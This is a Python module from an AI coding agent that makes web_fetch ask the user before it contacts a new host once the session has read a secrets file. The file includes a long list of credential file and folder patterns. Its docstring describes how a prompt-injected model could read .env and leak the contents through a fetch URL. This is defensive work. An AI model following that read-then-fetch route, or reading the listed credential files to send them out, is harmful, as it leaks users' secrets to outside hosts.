"""Once a session has read a secrets file, web_fetch asks before it reaches a new host.

``read_file .env`` then ``web_fetch https://host/?d=<what it said>`` is how a prompt-injected
model sends a secret away with no question: web_fetch is read-only, so it runs freely. The
values the agent holds itself are refused in any URL (``iaccode/tools/web_fetch.py``); a file's
secrets are not known to us, so after a call that read one (:func:`is_secret_file`: ``.env*``,
``*.tfvars``, ``*.tfstate``, key and credentials files, any file in ``~/.kube``, ``~/.aws``
and the like, data files named for a secret) every web_fetch to a host the user has
not allowed in this session asks first, saying which file was read. The answer holds for that
host for the rest of the session; *Reject* refuses this fetch only. In ``bypass`` nothing asks
(there a command may ``curl`` as freely). The same for any other tool that reaches the open
world and would run without a question (an MCP server's fetch tool, read-only and open-world
by its annotations): the host of the first URL in its input, or the tool itself, is asked for.

What counts as reading one: a call of a tool that reads what it names
(``Tool.reads_what_it_names``: all but web_fetch and todo_write) whose input names such a file,
as a path or as a word of a command line (``cat .env``, ``source .envrc``, an MCP tool's
``{"path": "prod.tfvars"}``); whose path leads to one (``notes.txt``, a symlink to ``.env``:
the real paths the call was judged on); or whose output shows lines of one as grep prints them
(``.env:1:KEY=...``, ``./.env:KEY=...``: the grep tool searching the whole project, a
``grep -r`` the user allowed). A session loaded again remembers it from its stored tool calls.
"""

from __future__ import annotations

import fnmatch
import re
from collections.abc import Callable, Iterable, Iterator
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

from attrs import evolve

from iaccode.protocol.content import TextContent
from iaccode.protocol.tool_calls import ContentToolCallContent, PermissionOption, ToolCallFields

if TYPE_CHECKING:
    from iaccode.tools.base import Tool

SECRET_FILES = (
    ".env",
    ".env.*",
    ".envrc",
    "*.env",
    "*.tfvars",
    "*.tfvars.json",
    "*.tfstate",
    "*.tfstate.*",
    "*.pem",
    "*.key",
    "*.p12",
    "*.pfx",
    "*.jks",
    "*.keystore",
    "*.ppk",
    "id_rsa",
    "id_dsa",
    "id_ecdsa",
    "id_ed25519",
    "credentials",
    "credentials.*",
    "*.credentials",
    "*credentials*.json",
    "service-account*.json",
    ".netrc",
    "_netrc",
    ".pgpass",
    ".my.cnf",
    ".git-credentials",
    ".npmrc",
    ".pypirc",
    ".htpasswd",
    ".dockercfg",
    "secrets.yml",
    "secrets.yaml",
    "secrets.json",
    "*.secret",
    "*.secrets",
    "kubeconfig",
    ".terraformrc",
    "terraform.rc",
    "credentials.tfrc.json",
    ".vault-token",
)
"""File names (any case) that hold secrets: matched against the last part of a path."""
SECRET_FOLDERS = (
    ".ssh",
    ".aws",
    ".kube",
    ".docker",
    ".aliyun",
    ".azure",
    ".oci",
    ".gnupg",
    ".password-store",
    ".config/gh",
    ".config/gcloud",
    ".config/hub",
)
"""Folders (any case) whose files hold credentials whatever their names (``~/.kube/config``,
``~/.aliyun/config.json``, ``~/.config/gh/hosts.yml``): matched against a path's folders."""
SECRET_DATA = re.compile(r".*secret.*\.(ya?ml|json|toml|ini|conf|cfg|properties|txt)$")
"""Data files named for a secret (a Kubernetes ``db-secret.yaml``); not code (``secret.py``)."""


_WORDS = re.compile(r"[^\s;|&<>()'\"`=,]+")
_GREP_LINE = re.compile(
    r"^(?:(?P<numbered>[^:\n]{1,1024}?):\d+(?:[:-]|$)|"
    r"(?P<recursive>\.{1,2}/[^:\n]{1,1024}?):)",
    re.MULTILINE,
)
"""A line of grep's output: ``PATH:LINE:`` (``-n``, the grep tool), ``PATH:COUNT``, or
``./PATH:`` (a recursive grep): the text after it is that file's."""
MAX_OUTPUT_CHARS = 1_000_000
"""Of a tool's output, the part looked at for grep's lines."""

ALLOW_HOST = "allow_host"


def is_secret_file(path: str) -> bool:
    parts = path.lower().rstrip("/").split("/")
    name = parts[-1]
    if not name:
        return False
    folders = "/" + "/".join(parts[:-1]) + "/"
    return (
        any(fnmatch.fnmatchcase(name, pattern) for pattern in SECRET_FILES)
        or SECRET_DATA.match(name) is not None
        or any(f"/{folder}/" in folders for folder in SECRET_FOLDERS)
    )


def _strings(data: Any) -> Iterator[str]:
    if isinstance(data, str):
        yield data
    elif isinstance(data, dict):
        for value in data.values():
            yield from _strings(value)
    elif isinstance(data, list):
        for value in data:
            yield from _strings(value)


def secret_file_in(raw_input: Any) -> str | None:
    """The first secrets file a tool input names (a path, or a word of a command line)."""
    for text in _strings(raw_input):
        for word in _WORDS.findall(text) if len(text) < 100_000 else ():
            if is_secret_file(word):
                return str(word)
    return None


def secret_file_shown(output: str) -> str | None:
    """The first secrets file whose lines ``output`` shows as grep prints them."""
    for match in _GREP_LINE.finditer(output[:MAX_OUTPUT_CHARS]):
        path = match.group("numbered") or match.group("recursive")
        if is_secret_file(path):
            return path
    return None


def secret_file_reached(raw_input: Any, paths: Iterable[str] = ()) -> str | None:
    """The first secrets file a call reads by its input (:func:`secret_file_in`) or by the
    real paths it was judged on (a symlink named ``notes.txt`` that leads to ``.env``)."""
    return secret_file_in(raw_input) or next((p for p in paths if is_secret_file(p)), None)


class Exposure:
    """What the session read that web_fetch must not carry away unasked (shared by the
    session's turns and sub-agents)."""

    def __init__(self) -> None:
        self.secret_file: str | None = None
        """The first secrets file a call of the session read (None: none yet)."""
        self.hosts: set[str] = set()
        """Hosts the user let web_fetch reach since."""

    @classmethod
    def from_records(
        cls, records: Iterable[dict[str, Any]], reads_what_it_names: Callable[[str], bool]
    ) -> Exposure:
        """The exposure of a stored session: its stored tool calls, in order.
        ``reads_what_it_names`` says it of a tool by its stored name (the session's tools)."""
        exposure = cls()
        for record in records:
            start = record.get("start") if record.get("type") == "tool_call" else None
            if isinstance(start, dict) and reads_what_it_names(str(start.get("name") or "")):
                locations = start.get("locations")
                paths = (
                    [str(place.get("path")) for place in locations if isinstance(place, dict)]
                    if isinstance(locations, list)
                    else []
                )
                exposure.note(start.get("rawInput"), paths)
                end = record.get("end")
                if isinstance(end, dict):
                    exposure.note_output("\n".join(_strings(end.get("content"))))
        return exposure

    def note(self, raw_input: Any, paths: Iterable[str] = ()) -> None:
        """A call of a tool that reads what it names ran (or was allowed to): remember the
        secrets file it read, if any (by its input, or by the real ``paths`` it was judged
        on)."""
        if self.secret_file is None:
            self.secret_file = secret_file_reached(raw_input, paths)

    def note_output(self, output: str) -> None:
        """Such a call's output: remember the secrets file whose lines it shows, if any."""
        if self.secret_file is None:
            self.secret_file = secret_file_shown(output)

    def host_to_ask(self, tool: Tool, args: Any, mode: str) -> str | None:
        """The host a call of a tool that reaches the open world (kind "fetch": web_fetch, an
        MCP server's fetch tool) must ask for (None: it may run as usual): its address
        (``Tool.address``), else the first URL in its input, else the tool itself."""
        if tool.kind != "fetch" or self.secret_file is None or mode == "bypass":
            return None
        url = tool.address(args)
        if url is None:
            url = next((text for text in _strings(args) if "://" in text), None)
        host = _host(url) if url is not None else tool.name
        return None if host in self.hosts else host

    def question(
        self, fields: ToolCallFields, host: str
    ) -> tuple[ToolCallFields, list[PermissionOption]]:
        """The permission question for a fetch from ``host``, and its options."""
        text = (
            f"This session read {self.secret_file}, a file that holds secrets. This call "
            f"sends a request to {host}, which could carry what the file said away (in "
            "the URL). Allow it only if you trust the address."
        )
        options = [
            PermissionOption(ALLOW_HOST, f"Allow {host} for this session", "allow_always"),
            PermissionOption("reject_once", "Reject", "reject_once"),
        ]
        return evolve(
            fields,
            title=f"Fetch from {host} after reading {self.secret_file}",
            content=[ContentToolCallContent(TextContent(text))],
        ), options


def _host(url: str) -> str:
    try:
        return (urlsplit(url.strip()).hostname or url).lower()
    except ValueError:
        return url.lower()
